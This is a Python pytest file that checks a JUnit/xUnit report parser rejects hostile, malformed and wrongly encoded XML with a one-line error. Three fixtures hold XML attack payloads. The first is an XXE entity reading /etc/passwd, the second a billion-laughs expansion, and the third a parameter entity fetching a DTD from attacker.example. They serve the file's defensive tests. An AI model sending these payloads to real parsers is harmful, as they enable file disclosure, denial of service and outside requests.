"""Hostile, broken and odd inputs: a report, or a one-line ReportError naming the source."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hms_status.errors import ReportError
from hms_status.reports import parse_report_bytes

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&xxe;"/></testsuite>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<testsuite><testcase name="&lol3;"/></testsuite>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<testsuite/>"""

VALID = b'<testsuite name="s"><testcase name="t"><failure message="m"/></testcase></testsuite>'


def _rejected(data: bytes, source: str = "report.xml") -> str:
    """The message of the ReportError that parsing raises."""
    with pytest.raises(ReportError) as caught:
        parse_report_bytes(data, source)
    message = caught.value.message
    assert message.startswith(f"{source}: ") and "\n" not in message
    assert caught.value.hint
    return message


@pytest.mark.parametrize(
    "data", [XXE, BILLION_LAUGHS, PARAMETER_ENTITY], ids=["xxe", "laughs", "pe"]
)
def test_reports_dtds_and_entity_declarations_are_refused(data: bytes) -> None:
    assert "DOCTYPE declarations are not allowed (line 2)" in _rejected(data)


def test_reports_undeclared_entity_is_malformed() -> None:
    assert "undefined entity" in _rejected(b"<testsuite>&oob;</testsuite>")


def test_reports_predefined_entities_and_character_references_still_work() -> None:
    data = (
        b'<testsuite><testcase name="a &amp; b &lt;&gt; &quot;&apos; &#233;&#x20AC;"/></testsuite>'
    )

    (case,) = parse_report_bytes(data).cases

    assert case.name == "a & b <> \"' é€"


def test_reports_empty_file_is_rejected_like_expat_says() -> None:
    message = _rejected(b"")

    assert message == "report.xml: not well-formed XML: no element found: line 1, column 0"


@pytest.mark.parametrize(
    "data",
    [b"\x00\x01\x02\xff\xfe garbage", b"\x89PNG\r\n\x1a\n\x00\x00", b"   \n", b"not xml at all"],
)
def test_reports_binary_garbage_is_rejected(data: bytes) -> None:
    assert "report.xml: " in _rejected(data)


def test_reports_truncated_report_is_rejected_at_every_cut() -> None:
    for cut in range(len(VALID)):
        _rejected(VALID[:cut])


def test_reports_unknown_root_is_refused_not_read_as_zero_tests() -> None:
    message = _rejected(b'<suites><suite name="s"><case name="t"/></suite></suites>')

    assert message == "report.xml: not a JUnit/NUnit/TRX/xUnit report (root element <suites>)"


@pytest.mark.parametrize(
    ("encoding", "text"),
    [("ISO-8859-1", "café"), ("windows-1252", "price €5"), ("koi8-r", "тест")],
)
def test_reports_non_utf8_declared_encodings_are_decoded(encoding: str, text: str) -> None:
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
    data = f'{declaration}<testsuite><testcase name="{text}"/></testsuite>'

    (case,) = parse_report_bytes(data.encode(encoding)).cases

    assert case.name == text


def test_reports_utf16_with_bom_is_decoded() -> None:
    data = '<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase name="ü"/></testsuite>'

    (case,) = parse_report_bytes(data.encode("utf-16")).cases

    assert case.name == "ü"


@pytest.mark.parametrize("encoding", ["shift_jis", "no-such-encoding"])
def test_reports_unsupported_encodings_are_rejected(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?><testsuite/>'.encode()

    assert "unsupported character encoding" in _rejected(data)


def test_reports_bytes_that_contradict_the_declared_encoding_are_rejected() -> None:
    data = '<?xml version="1.0" encoding="UTF-8"?><testsuite name="café"/>'.encode("latin-1")

    assert "not well-formed XML" in _rejected(data)


@settings(max_examples=300, deadline=None, database=None)
@given(data=st.binary(max_size=300) | st.builds(lambda cut: VALID[:cut], st.integers(0, 90)))
def test_reports_any_bytes_give_a_report_or_a_report_error(data: bytes) -> None:
    try:
        report = parse_report_bytes(data, "fuzz.xml")
    except ReportError as error:
        assert error.message.startswith("fuzz.xml: ") and "\n" not in error.message
    else:
        assert report.counts.total == len(report.cases)
